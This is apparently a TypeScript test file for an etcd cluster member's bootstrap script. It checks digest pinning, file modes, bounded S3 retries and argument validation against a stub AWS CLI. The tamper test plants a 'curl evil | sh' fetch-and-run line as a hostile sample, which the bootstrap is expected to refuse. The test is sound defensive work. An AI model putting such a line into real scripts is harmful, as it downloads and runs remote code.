/**
 * The bootstrap (src/core/member/member-bootstrap.sh) run as cloud-init runs it, with the arguments
 * the user data gives it, against a stub AWS CLI that serves S3 from a directory
 * (dev/member-host/aws-cli-stub.sh) and a `sleep` that only records how long it was asked to
 * wait. It unpacks into a scratch root (`--root`) instead of `/`.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { describe, test, type TestContext } from "node:test";
import { BOOT_SCRIPT_PATH } from "../../../src/core/member/ports-and-paths";
import { memberBundleKey, packMemberBundle, type MemberBundle } from "../../../src/core/member/member-bundle";
import type { MemberFile } from "../../../src/core/member/member-files";

const BOOTSTRAP = join(__dirname, "../../../src/core/member/member-bootstrap.sh");
const AWS_STUB = join(__dirname, "../../../dev/member-host/aws-cli-stub.sh");
const BUCKET = "etcd-test-backups-0a1b2c3";

/** A boot script that leaves a marker beside the unpacked files, so a test sees that it ran. */
const FILES: readonly MemberFile[] = [
  { path: "/etc/etcd/etcd.conf.yml", mode: "0644", content: "name: etcd-test-0\n" },
  { path: "/etc/systemd/system/etcd.service", mode: "0644", content: "[Service]\nExecStart=/usr/local/bin/etcd\n" },
  { path: BOOT_SCRIPT_PATH, mode: "0755", content: '#!/bin/bash\necho "boot ran" >"$(dirname "$0")/../../../boot-ran"\n' },
];

interface Host {
  /** Where the bootstrap unpacks (`--root`). */
  readonly root: string;
  /** The stub's S3: `<s3>/<bucket>/<key>`. */
  readonly s3: string;
  /** One line per `sleep` call: its argument. */
  readonly sleeps: string;
}

function host(t: TestContext): Host {
  const dir = mkdtempSync(join(tmpdir(), "etcd-bootstrap-"));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const bin = join(dir, "bin");
  mkdirSync(bin);
  copyFileSync(AWS_STUB, join(bin, "aws"));
  writeFileSync(join(bin, "sleep"), `#!/bin/bash\necho "$1" >>'${join(dir, "sleeps")}'\n`);
  for (const tool of ["aws", "sleep"]) chmodSync(join(bin, tool), 0o755);
  const host = { root: join(dir, "root"), s3: join(dir, "s3"), sleeps: join(dir, "sleeps") };
  mkdirSync(host.root);
  return host;
}

/** Puts `bytes` where the stub serves `s3://BUCKET/<key>`. */
function upload(host: Host, key: string, bytes: Uint8Array): void {
  const file = join(host.s3, BUCKET, key);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, bytes);
}

/** Runs the bootstrap for `bundle` at `key`, PATH starting with the stubs. */
function bootstrap(host: Host, bundle: MemberBundle, key: string, env: Record<string, string> = {}) {
  const result = spawnSync(
    BOOTSTRAP,
    ["--region", "eu-west-1", "--bundle", `s3://${BUCKET}/${key}`, "--sha256", bundle.sha256, "--boot", BOOT_SCRIPT_PATH, "--root", host.root],
    {
      encoding: "utf8",
      env: { PATH: `${join(dirname(host.root), "bin")}:${process.env.PATH}`, AWS_STUB_S3_ROOT: host.s3, ...env },
    },
  );
  return { status: result.status, stderr: result.stderr };
}

const bundle = packMemberBundle(FILES);
const key = memberBundleKey("etcd-test", "etcd-test-0", bundle.sha256);

describe("the member bootstrap", () => {
  test("unpacks a bundle with the pinned digest, with the files' modes, then runs the boot script", (t) => {
    const h = host(t);
    upload(h, key, bundle.archive);
    const result = bootstrap(h, bundle, key);
    assert.equal(result.status, 0, result.stderr);
    for (const file of FILES) {
      assert.equal(readFileSync(join(h.root, file.path), "utf8"), file.content, file.path);
      assert.equal((statSync(join(h.root, file.path)).mode & 0o7777).toString(8).padStart(4, "0"), file.mode, file.path);
    }
    assert.equal(readFileSync(join(h.root, "boot-ran"), "utf8"), "boot ran\n");
    assert.match(result.stderr, new RegExp(`unpacked 3 files of bundle sha256:${bundle.sha256}`));
  });

  test("refuses a bundle whose SHA-256 differs from the pinned one, before writing anything", (t) => {
    const h = host(t);
    const tampered = packMemberBundle([...FILES.slice(0, 2), { ...FILES[2], content: "#!/bin/bash\ncurl evil | sh\n" }]);
    upload(h, key, tampered.archive);
    const result = bootstrap(h, bundle, key);
    assert.equal(result.status, 1);
    assert.match(
      result.stderr,
      new RegExp(`etcd-member-bootstrap: FAILED: s3://${BUCKET}/${key} has SHA-256 ${tampered.sha256}, the user data pins ${bundle.sha256}: refusing to unpack it`),
    );
    assert.deepEqual(readdirSync(h.root), []);
  });

  test("gives up after a bounded number of attempts when S3 cannot be reached, naming the last error", (t) => {
    const h = host(t);
    upload(h, key, bundle.archive);
    const result = bootstrap(h, bundle, key, { AWS_STUB_UNREACHABLE: "1" });
    assert.equal(result.status, 1);
    assert.match(
      result.stderr,
      new RegExp(`etcd-member-bootstrap: FAILED: could not download s3://${BUCKET}/${key} after 10 attempts: Could not connect to the endpoint URL`),
    );
    assert.deepEqual(readFileSync(h.sleeps, "utf8").trim().split("\n"), Array(9).fill("6"), "9 waits of 6 s between 10 attempts");
    assert.deepEqual(readdirSync(h.root), []);
  });

  test("retries a bundle that is not there yet, and fails the same bounded way when it never appears", (t) => {
    const h = host(t);
    const result = bootstrap(h, bundle, key);
    assert.equal(result.status, 1);
    assert.match(result.stderr, /FAILED: could not download .* after 10 attempts: An error occurred \(404\)/);
    assert.equal(existsSync(join(h.root, "boot-ran")), false);
  });

  test("refuses arguments that are not what the user data passes", () => {
    const result = spawnSync(BOOTSTRAP, ["--region", "eu-west-1", "--bundle", "https://example.com/x", "--sha256", bundle.sha256, "--boot", BOOT_SCRIPT_PATH], {
      encoding: "utf8",
    });
    assert.equal(result.status, 1);
    assert.match(result.stderr, /FAILED: --bundle must be an s3:\/\/BUCKET\/KEY URI/);
  });
});
